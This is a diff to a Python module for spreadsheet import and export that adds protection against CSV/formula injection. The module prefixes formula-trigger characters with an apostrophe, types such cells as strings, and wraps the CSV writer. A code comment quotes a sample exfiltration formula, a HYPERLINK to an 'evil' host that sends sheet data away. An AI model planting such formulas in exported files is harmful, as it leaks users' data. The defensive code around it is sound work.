@@ -28,6 +28,7 @@ The API, in the order a caller uses it::
 
 from __future__ import annotations
 
+import csv
 import enum
 import io
 import re
@@ -38,8 +39,10 @@ from decimal import Decimal, InvalidOperation
 from typing import IO, Any
 
 import numpy as np
+import openpyxl
 import pandas as pd
 from django.utils.translation import gettext as _
+from openpyxl.styles import Font
 
 ROW = "row"
 # Whole numbers above this are refused: beyond any real annual quantity, and it keeps
@@ -393,8 +396,12 @@ def _convert_bool(raw: pd.Series, rows: pd.Series, label: str) -> tuple[pd.Serie
     return is_true, errors
 
 
+def _strip(text: str) -> str:
+    return unneutralise_text(text.strip())
+
+
 def _strip_upper(text: str) -> str:
-    return text.strip().upper()
+    return _strip(text).upper()
 
 
 def convert_frame(
@@ -414,7 +421,7 @@ def convert_frame(
         if column.key not in raw.columns:
             out[column.key] = None if column.kind is not ColumnKind.BOOL else False
             continue
-        function = _strip_upper if column.kind is ColumnKind.CODE else str.strip
+        function = _strip_upper if column.kind is ColumnKind.CODE else _strip
         values = map_unique(raw[column.key].fillna("").astype(str), function)
         if column.kind in (ColumnKind.TEXT, ColumnKind.CODE):
             if not column.allow_blank:
@@ -516,16 +523,99 @@ def template_frame(
     return frame.rename(columns={c.key: c.display_header for c in columns})
 
 
-def write_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
-    """A workbook with one sheet per entry (sheet names up to 31 characters)."""
+# --- writing: every exported cell is inert ------------------------------------------------
+
+# A cell whose text starts with one of these is taken for a formula by Excel, LibreOffice
+# and WPS (OWASP, "CSV Injection"): a product named ``=HYPERLINK("http://evil/?"&A2)``
+# would become a live link that sends the sheet's data away. Such text is written with a
+# leading apostrophe, and in .xlsx as a string cell, never as a formula.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_text(value: object) -> object:
+    """The value as an exported cell holds it: text starting with a formula trigger gets
+    a leading ``'``; numbers, dates and other text are left as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def unneutralise_text(text: str) -> str:
+    """Undo ``neutralise_text`` on text read back from a sheet (a template we wrote and the
+    user filled in): ``'=1+1`` is the model ``=1+1`` again. Other text is unchanged."""
+    if text.startswith("'") and text[1:2] and text[1] in FORMULA_TRIGGERS:
+        return text[1:]
+    return text
+
+
+def neutralise_workbook(workbook: Any) -> None:
+    """Make every cell of an openpyxl workbook inert (see ``FORMULA_TRIGGERS``): text that
+    would be a formula is prefixed with ``'`` and typed as a string. Run on every
+    workbook just before it is saved, whatever built it."""
+    for worksheet in workbook.worksheets:
+        for row in worksheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if isinstance(value, str) and (
+                    cell.data_type == "f" or value.startswith(FORMULA_TRIGGERS)
+                ):
+                    cell.value = neutralise_text(value)
+                    cell.data_type = "s"
+
+
+def workbook_bytes(workbook: Any) -> bytes:
+    """The workbook's .xlsx bytes, every cell made inert first."""
+    neutralise_workbook(workbook)
     buffer = io.BytesIO()
-    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
-        for name, frame in sheets.items():
-            frame.to_excel(writer, sheet_name=name[:31], index=False)
-            worksheet = writer.sheets[name[:31]]
-            for i, column in enumerate(frame.columns, start=1):
-                width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
-                worksheet.column_dimensions[worksheet.cell(1, i).column_letter].width = min(
-                    max(10, width * 1.3 + 2), 60
-                )
+    workbook.save(buffer)
     return buffer.getvalue()
+
+
+class _InertCsvWriter:
+    """``csv.writer`` whose every text field is made inert (``neutralise_text``)."""
+
+    def __init__(self, stream: Any, **options: Any) -> None:
+        self._writer = csv.writer(stream, **options)
+
+    def writerow(self, row: Iterable[object]) -> Any:
+        return self._writer.writerow([neutralise_text(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(stream: Any, **options: Any) -> _InertCsvWriter:
+    """A CSV writer for exports: like ``csv.writer``, with every text field made inert."""
+    return _InertCsvWriter(stream, **options)
+
+
+def _plain(value: object) -> object:
+    """A frame's value as openpyxl takes it: None for missing, Python numbers for numpy's."""
+    if value is None or value is pd.NA or value is pd.NaT:
+        return None
+    if isinstance(value, float) and value != value:  # NaN
+        return None
+    if isinstance(value, np.generic):
+        return value.item()
+    return value
+
+
+def write_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
+    """A workbook with one sheet per entry (sheet names up to 31 characters), every cell
+    inert (``neutralise_workbook``)."""
+    workbook = openpyxl.Workbook()
+    workbook.remove(workbook.active)
+    for name, frame in sheets.items():
+        worksheet = workbook.create_sheet(name[:31])
+        worksheet.append([str(c) for c in frame.columns])
+        for cell in worksheet[1]:
+            cell.font = Font(bold=True)
+        for record in frame.itertuples(index=False, name=None):
+            worksheet.append([_plain(v) for v in record])
+        for i, column in enumerate(frame.columns, start=1):
+            width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
+            worksheet.column_dimensions[worksheet.cell(1, i).column_letter].width = min(
+                max(10, width * 1.3 + 2), 60
+            )
+    return workbook_bytes(workbook)
